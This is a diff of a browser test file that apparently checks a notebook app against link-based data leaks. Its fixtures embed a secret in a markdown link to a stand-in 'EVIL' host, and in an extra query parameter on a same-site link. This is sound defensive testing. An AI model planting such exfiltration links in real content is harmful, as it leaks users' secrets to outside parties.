@@ -13,12 +13,12 @@ export const holeCases: HostileCase[] = [
     hole: 1,
     notebook: notebook([counter, `See [details](http://EVIL/d?c=${secretExpr}).`]),
     // The user follows the link and, when the app asks, says yes to leaving.
-    action: async ({ page }) => {
+    action: async ({ page, linger }) => {
       const link = page.locator(".prose a", { hasText: "details" });
       if ((await link.count()) > 0) await link.first().click();
       const open = page.locator('[data-action="link-open"]');
       if (await open.isVisible({ timeout: 1_000 }).catch(() => false)) await open.click();
-      await page.waitForTimeout(1500);
+      await linger(1500);
     },
     weaken: "markdown-values",
   },
@@ -26,10 +26,10 @@ export const holeCases: HostileCase[] = [
     name: "hole 2: a same-site link carrying data in extra query parameters",
     hole: 2,
     notebook: notebook([counter, `[Next](?notebook=notebooks/customer-review.md&ref=${secretExpr})`]),
-    action: async ({ page }) => {
+    action: async ({ page, linger }) => {
       const link = page.locator(".prose a", { hasText: "Next" });
       if ((await link.count()) > 0) await link.first().click();
-      await page.waitForTimeout(1500);
+      await linger(1500);
     },
     weaken: "link-classifier",
   },
